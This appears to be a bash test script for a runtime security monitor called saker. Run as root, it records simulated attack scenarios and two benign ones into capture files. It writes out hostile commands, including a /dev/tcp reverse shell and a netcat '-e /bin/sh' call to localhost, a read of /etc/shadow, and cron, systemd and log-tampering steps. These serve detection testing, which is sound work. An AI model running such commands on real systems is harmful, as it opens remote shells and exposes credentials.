#!/usr/bin/env bash
# Records every attack and benign scenario into captures/scenarios/NAME.scap
# with `saker record --only-cmd`, as root. Re-run to refresh the captures:
#   bash tests/scenarios/record-all.sh [path/to/saker]
# or only some of them: ONLY="netcat-rce systemd-unit" bash tests/scenarios/record-all.sh
set -euo pipefail
root="$(cd "$(dirname "$0")/../.." && pwd)"
saker="${1:-$root/target/release/saker}"
out="$root/captures/scenarios"
work="$(mktemp -d /tmp/saker-scenarios.XXXXXX)"
trap 'rm -rf "$work"' EXIT
mkdir -p "$out"
for c in ptrace_attach memfd_exec module_load setuid_change; do
  cc -O1 -o "$work/$c" "$root/tests/scenarios/$c.c"
done
cc -O1 -o "$work/nginx" "$root/tests/scenarios/webserver.c"
# The same program under a name that is neither a shell, a launcher nor a server.
cc -O1 -o "$work/updater" "$root/tests/scenarios/webserver.c"
# A stand-in netcat (a copy of /bin/true): the rule looks at the name and options.
cp /bin/true "$work/nc"

rec() { # NAME CMD...
  local name="$1"; shift
  if [ -n "${ONLY:-}" ] && [[ " $ONLY " != *" $name "* ]]; then return 0; fi
  "$saker" record -q -w "$out/$name.scap" --only-cmd -- "$@"
  echo "recorded $name: $("$saker" info --json "$out/$name.scap" | python3 -c 'import json,sys; print(json.load(sys.stdin)["events"])') events" >&2
}

rec read-shadow cat /etc/shadow
rec shell-from-server "$work/nginx"
rec write-below-binary-dir sh -c 'echo evil > /usr/bin/saker-scenario-evil; rm -f /usr/bin/saker-scenario-evil'
rec write-below-etc sh -c 'echo evil > /etc/saker-scenario.conf; rm -f /etc/saker-scenario.conf'
rec reverse-shell bash -c '
  python3 -c "import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(1); c, _ = s.accept(); c.sendall(b\"id\nexit\n\"); c.recv(4096)" &
  sleep 0.5
  bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" 2>/dev/null
  wait'
rec symlink-shadow sh -c 'ln -sf /etc/shadow /tmp/saker-scenario-shadow; rm -f /tmp/saker-scenario-shadow'
rec ptrace-attach "$work/ptrace_attach"
rec memfd-exec "$work/memfd_exec"
rec crontab-write sh -c 'echo "* * * * * root id" > /etc/cron.d/saker-scenario; rm -f /etc/cron.d/saker-scenario'
rec log-truncation sh -c 'echo line > /var/log/saker-scenario.log; : > /var/log/saker-scenario.log; rm -f /var/log/saker-scenario.log'
rec module-load "$work/module_load"
cp /bin/true "$work/suid-true"
rec setuid-program "$work/setuid_change" "$work/suid-true"
rec netcat-rce sh -c "$work/nc -e /bin/sh 127.0.0.1 4444"
rec hardlink-shadow sh -c 'ln -f /etc/shadow /tmp/saker-scenario-hardlink; rm -f /tmp/saker-scenario-hardlink'
rec systemd-unit sh -c 'printf "[Service]\nExecStart=/bin/true\n" > /etc/systemd/system/saker-scenario.service; rm -f /etc/systemd/system/saker-scenario.service'
rec log-deletion sh -c 'echo line >> /var/log/saker-scenario-del.log; rm -f /var/log/saker-scenario-del.log'
rec shell-unusual-parent "$work/updater"
# A "container": a cgroup v2 group named like Docker's scope (container.id comes from
# the exec's cgroup); inside it a private mount namespace and a tmpfs mount.
cid=$(printf 'saker-scenario-container' | sha256sum | cut -c1-64)
cg=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)/docker-$cid.scope
mkdir -p "$cg"
rec container-mount sh -c "echo \$\$ > $cg/cgroup.procs && exec unshare -m sh -c 'mount -t tmpfs saker-scenario /mnt'"
echo $$ > "$(dirname "$cg")/cgroup.procs" 2>/dev/null || true
rmdir "$cg" 2>/dev/null || true
rec benign-package-install sh -c 'd=$(mktemp -d); for i in $(seq 1 40); do mkdir -p $d/usr/lib/pkg$i; echo lib > $d/usr/lib/pkg$i/lib.so; done; rm -rf $d'
rec benign-build sh -c 'd=$(mktemp -d); printf "int main(void){return 0;}\n" > $d/m.c; cc -o $d/m $d/m.c; $d/m; rm -rf $d'
